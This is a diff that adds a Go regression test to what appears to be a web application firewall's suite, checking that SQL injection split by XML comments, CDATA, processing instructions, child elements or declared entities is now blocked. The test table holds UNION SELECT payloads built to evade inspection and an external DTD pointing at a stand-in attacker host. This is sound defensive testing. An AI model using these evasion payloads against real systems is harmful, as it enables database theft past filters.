@@ -312,3 +312,36 @@ func TestAttackWAFMultipartTransferEncoding(t *testing.T) {
 		})
 	}
 }
+
+// TestAttackWAFXMLText: Coraza hands the rules each run of an XML body's
+// text apart, as Go's reader splits it at comments, CDATA sections,
+// processing instructions and child elements, and keeps an entity it
+// does not know as "&x;". Java's getTextContent, .NET's InnerText and
+// Python's ElementTree and lxml read an element's text as one string,
+// and expand the entities an internal subset declares: a UNION SELECT
+// split by "<!-- -->" or "<![CDATA[]]>", or declared as an entity,
+// scored nothing at the default threshold and reached the upstream. An
+// element's joined text is now inspected, and a document type
+// declaration other than a bare <!DOCTYPE name> is refused with 400.
+func TestAttackWAFXMLText(t *testing.T) {
+	u := newRawUpstream(t)
+	h := startWith(t, setup{upstream: u.URL(), policies: anyMethod, extra: "waf: {mode: block}\n"})
+	tests := []struct {
+		name, body string
+		want       int
+	}{
+		{"plain", `<q>1 UNION SELECT password FROM users</q>`, 403},
+		{"split by a comment", `<q>1 UNI<!-- -->ON SELECT password FROM users</q>`, 403},
+		{"split by CDATA", `<q>1 UNI<![CDATA[ON SEL]]>ECT password FROM users</q>`, 403},
+		{"split by a child", `<r><q><a>1 UNI</a><b>ON SELECT password FROM users</b></q></r>`, 403},
+		{"split by a processing instruction", `<q>1 UNI<?x?>ON SELECT password FROM users</q>`, 403},
+		{"internal entity", `<?xml version="1.0"?><!DOCTYPE q [<!ENTITY x "1 UNION SELECT password FROM users">]><q>&x;</q>`, 400},
+		{"external DTD", `<?xml version="1.0"?><!DOCTYPE q SYSTEM "https://attacker.example/q.dtd"><q>&x;</q>`, 400},
+		{"benign", `<!DOCTYPE order><order><item id="42">lamp<!-- red --></item><qty>3</qty></order>`, 200},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			postBody(t, h, u, rawPost{path: "/api/items", client: "xml-" + tt.name, ctype: "application/xml", body: tt.body}, tt.want)
+		})
+	}
+}
